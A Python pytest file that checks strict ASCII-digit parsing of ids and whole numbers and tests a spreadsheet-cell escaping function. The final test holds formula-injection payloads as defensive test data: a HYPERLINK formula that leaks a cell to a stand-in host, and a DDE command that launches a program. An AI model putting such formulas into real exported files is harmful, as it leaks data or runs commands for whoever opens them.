"""Reading ids and whole numbers typed as text: ASCII digits only, never past MAX_ID."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pb.domain.values import MAX_ID, parse_id, parse_whole, spreadsheet_cell


@pytest.mark.parametrize(("typed", "number"), [
    ("0", 0), ("7", 7), (" 12 ", 12), ("007", 7), (str(MAX_ID), MAX_ID),
    ("0" * 30 + "5", 5),
])
def test_whole_numbers_in_ascii_digits_are_read(typed: str, number: int) -> None:
    assert parse_whole(typed) == number


@pytest.mark.parametrize("typed", [
    "\u00b2", "1\u00b2", "\u0661\u0662", "\uff11", "-1", "+1", "1.5", "1e3", "1 000", "",
    "   ", "abc", str(MAX_ID + 1), str(2**63), "9" * 5000, None,
])
def test_anything_else_is_not_a_whole_number(typed: str | None) -> None:
    assert parse_whole(typed) is None


def test_a_smaller_limit_can_be_asked_for() -> None:
    assert parse_whole("9999", most=9999) == 9999
    assert parse_whole("10000", most=9999) is None


@pytest.mark.parametrize(("typed", "found"), [
    ("1", 1), (str(MAX_ID), MAX_ID), ("0", None), (str(MAX_ID + 1), None), ("\u00b2", None),
    (None, None),
])
def test_ids_run_from_one_to_max_id(typed: str | None, found: int | None) -> None:
    assert parse_id(typed) == found


@given(st.text(max_size=30))
def test_any_text_gives_none_or_a_storable_number(typed: str) -> None:
    number = parse_whole(typed)
    if number is not None:
        assert 0 <= number <= MAX_ID and int(typed.strip()) == number
        assert all(ch in "0123456789" for ch in typed.strip())


def test_spreadsheet_cells_never_start_a_formula() -> None:
    for text in ("=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")", "=cmd|' /C calc'!A0",
                 "+1+1", "-2+3", "@SUM(A1)", "\tstarts with a tab", "\rstarts with a return"):
        assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("Bike racks") == "Bike racks"
    assert spreadsheet_cell(-250) == -250 and spreadsheet_cell(None) == ""
